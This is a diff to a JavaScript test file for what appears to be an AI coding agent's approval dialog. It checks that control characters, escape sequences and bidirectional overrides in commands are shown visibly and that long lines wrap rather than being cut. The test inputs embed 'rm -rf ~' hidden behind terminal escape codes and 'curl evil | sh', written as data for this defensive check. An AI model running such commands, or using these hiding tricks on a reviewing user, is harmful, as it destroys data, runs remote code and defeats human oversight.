@@ -111,7 +111,7 @@ test('what a call holds cannot move the cursor or change colours', () => {
   });
   const text = dialogLines(dialog, drawing, 20).lines.join('\n');
   assert.equal(/[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]/.test(text), false, text);
-  assert.match(text, /ls ‹U\+202E›txt\n {3}rm/);
+  assert.match(text, /ls‹U\+001B›\[2J‹U\+001B›\]0;x‹U\+0007› ‹U\+202E›txt‹U\+000D›\n {3}rm/);
 });
 
 test('a plan is approved, approved with edits, or sent back with words', () => {
@@ -172,4 +172,29 @@ test('on a narrow screen the choice that Enter takes is told to its end', () => 
     '   4. No, and stop here',
     ' ↑↓ or 1–4 · Enter',
   ]);
+});
+
+test('a question shows every character of a command, the rule and the rest of the input', () => {
+  const command = `echo safe\x1b]0;; rm -rf ~\x07 \u202e\u200bend ${'x'.repeat(200)} last`;
+  const rule = `Bash(${command})`;
+  const input = { command, description: 'harmless\x1b[2K', timeout: 5, dangerouslyDisableSandbox: true };
+  const dialog = approvalDialog({
+    call: { id: 't', name: 'Bash', input },
+    why: 'it is not \x1b[8mknown',
+    always: [{ rule, scope: 'local' }],
+  });
+  const shown = dialogLines(dialog, { ...drawing, columns: 60, rows: 60 }, 60).lines.join('\n');
+  const joined = shown.replace(/\s+/g, '');
+  const whole = `echosafe‹U+001B›]0;;rm-rf~‹U+0007›‹U+202E›‹U+200B›end${'x'.repeat(200)}last`;
+  assert.equal(joined.split(whole).length - 1, 2, shown);
+  for (const part of ['harmless‹U+001B›[2K', '"timeout":5', '"dangerouslyDisableSandbox":true', 'not‹U+001B›[8mknown'])
+    assert.ok(joined.includes(part), `${part}\n${shown}`);
+});
+
+test('long lines of an edit are wrapped in a question, not cut', () => {
+  const line = `${'a'.repeat(150)}; curl evil | sh`;
+  const input = { file_path: '/p/a.sh', content: `${line}\n` };
+  const dialog = approvalDialog({ call: { id: 't', name: 'Write', input }, why: '', always: [] });
+  const shown = dialogLines(dialog, { ...drawing, columns: 60, rows: 60 }, 60).lines.join('');
+  assert.ok(shown.replace(/\s+/g, '').includes(line.replace(/\s+/g, '')), shown);
 });
